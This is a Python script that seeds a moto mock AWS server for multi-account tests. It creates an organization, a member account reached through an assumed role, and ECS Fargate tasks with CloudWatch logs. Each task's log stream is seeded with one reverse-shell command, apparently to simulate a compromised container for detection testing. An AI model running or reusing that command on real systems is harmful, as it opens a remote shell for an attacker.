"""Seeds a moto server with an organization for the multi-account tests:
the administrator account (moto's default, 123456789012) creates the
organization and a member account; a compromised task then runs in the
member account, seeded through credentials of a role assumed in it (moto
maps them to the member account). The administrator has its own task.

Run with the moto virtualenv's Python (it has boto3):
    .venv-moto/bin/python tests/aws/seed_accounts.py http://127.0.0.1:PORT ROLE
Prints a JSON object with what was created. Everything is synthetic.
"""
import json
import sys
import time

import boto3

endpoint, role_name = sys.argv[1], sys.argv[2]
admin = dict(
    endpoint_url=endpoint,
    region_name="us-east-1",
    aws_access_key_id="testing",
    aws_secret_access_key="testing",
)

organizations = boto3.client("organizations", **admin)
organizations.create_organization(FeatureSet="ALL")
created = organizations.create_account(AccountName="workloads", Email="workloads@example.invalid")
member = created["CreateAccountStatus"]["AccountId"]

assumed = boto3.client("sts", **admin).assume_role(
    RoleArn=f"arn:aws:iam::{member}:role/{role_name}", RoleSessionName="seed"
)["Credentials"]
in_member = dict(
    endpoint_url=endpoint,
    region_name="us-east-1",
    aws_access_key_id=assumed["AccessKeyId"],
    aws_secret_access_key=assumed["SecretAccessKey"],
    aws_session_token=assumed["SessionToken"],
)


def run_one_task(session, family):
    """A cluster `prod`, a service and one running Fargate task of `family`,
    with an awslogs stream; returns the task ARN."""
    ecs = boto3.client("ecs", **session)
    ec2 = boto3.client("ec2", **session)
    logs = boto3.client("logs", **session)
    ecs.create_cluster(clusterName="prod")
    ecs.register_task_definition(
        family=family,
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        cpu="256",
        memory="512",
        containerDefinitions=[
            {
                "name": "app",
                "image": "public.ecr.aws/nginx/nginx:1.27",
                "memory": 512,
                "cpu": 256,
                "essential": True,
                "logConfiguration": {
                    "logDriver": "awslogs",
                    "options": {
                        "awslogs-group": f"/ecs/{family}",
                        "awslogs-region": "us-east-1",
                        "awslogs-stream-prefix": family,
                    },
                },
            }
        ],
    )
    ecs.create_service(
        cluster="prod",
        serviceName=f"{family}-svc",
        taskDefinition=family,
        desiredCount=0,
        launchType="FARGATE",
    )
    subnet = ec2.describe_subnets()["Subnets"][0]["SubnetId"]
    task = ecs.run_task(
        cluster="prod",
        taskDefinition=family,
        count=1,
        launchType="FARGATE",
        group=f"service:{family}-svc",
        networkConfiguration={"awsvpcConfiguration": {"subnets": [subnet], "securityGroups": []}},
    )["tasks"][0]["taskArn"]
    task_id = task.rsplit("/", 1)[1]
    stream = f"{family}/app/{task_id}"
    logs.create_log_group(logGroupName=f"/ecs/{family}")
    logs.create_log_stream(logGroupName=f"/ecs/{family}", logStreamName=stream)
    now_ms = int(time.time() * 1000)
    logs.put_log_events(
        logGroupName=f"/ecs/{family}",
        logStreamName=stream,
        logEvents=[{"timestamp": now_ms - 30_000, "message": "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"}],
    )
    return task


member_task = run_one_task(in_member, "payments")
admin_task = run_one_task(admin, "web")
print(json.dumps({"member": member, "member_task": member_task, "admin_task": admin_task}))
